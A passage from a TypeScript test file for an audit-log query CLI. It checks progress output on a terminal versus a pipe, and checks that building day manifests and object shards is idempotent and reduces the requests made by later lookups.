    it('shows progress on a terminal only', async () => {
      // `script` runs the CLI on a pseudo-terminal; the sql command reads every file (more than 8).
      const cmd = `${process.execPath} ${binPath('query')} sql 'SELECT count(*) FROM audit' --format json`;
      const out = await new Promise<string>((resolve, reject) =>
        execFile('script', ['-qec', cmd, '/dev/null'], { env: { ...process.env, ...vars, AUDIT_CACHE_DIR: join(ROOT, '.test-cache', `${vars.AUDIT_TOPIC}-tty`) } }, (err, stdout) =>
          err ? reject(err) : resolve(stdout),
        ),
      );
      expect(out).toMatch(/reading \d+\/\d+ files/);
      const piped = await q(['sql', 'SELECT count(*) FROM audit'], { AUDIT_CACHE_DIR: join(ROOT, '.test-cache', `${vars.AUDIT_TOPIC}-pipe`) });
      expect(piped.stderr).toBe('');
    });
  });
  // Last: it adds day manifests to the store, which every later cold lookup would use.
  describe('index build (day manifests)', () => {
    it('writes one manifest per day, is idempotent, and cold lookups then read them instead of per-file indexes', async () => {
      const cacheDir = (name: string) => ({ AUDIT_CACHE_DIR: join(ROOT, '.test-cache', `${vars.AUDIT_TOPIC}-${name}`) });
      const before = await q(['--object', 'order:42', '--stats'], cacheDir('manifest-before'));
      const beforeStats = JSON.parse(before.stderr) as Record<string, number>;
      expect(beforeStats).toMatchObject({ manifestsFetched: 0, filesFromManifests: 0 });

      const firstDays = await q(['index', 'build', '--until', '2026-04-02']);
      expect(firstDays.code).toBe(0);
      expect(JSON.parse(firstDays.stdout)).toMatchObject({ days: 2, written: 2, unchanged: 0, skipped: 0 });
      expect(lines(firstDays.stderr).every((l) => /^dt=2026-04-0[12]: \d+ files, \d+ bytes$/.test(l))).toBe(true);
      const all = await q(['index', 'build', '--quiet']);
      expect(all.stderr).toBe('');
      expect(JSON.parse(all.stdout)).toMatchObject({ days: 4, written: 2, unchanged: 2, files: beforeStats.filesListed, skipped: 0 });
      expect(JSON.parse((await q(['index', 'build', '--quiet'])).stdout)).toMatchObject({ days: 4, written: 0, unchanged: 4 });

      const after = await q(['--object', 'order:42', '--stats'], cacheDir('manifest-after'));
      expect(after.code).toBe(0);
      expect(after.stdout).toBe(before.stdout);
      const a = JSON.parse(after.stderr) as Record<string, number>;
      // The build also wrote the object shards: an object lookup reads its shard of each day, not the manifests.
      expect(JSON.parse(all.stdout)).toMatchObject({ objectShards: { days: 4, written: 2, unchanged: 2, files: beforeStats.filesListed, skipped: 0 } });
      expect(a).toMatchObject({ shardsFetched: 4, filesFromShards: beforeStats.filesListed, manifestsFetched: 0, objectsFetched: 4 });
      expect(a.filesRead).toBeLessThanOrEqual(beforeStats.filesRead!);
      expect(a.requests).toBeLessThan(beforeStats.requests!);
    });
  });
});
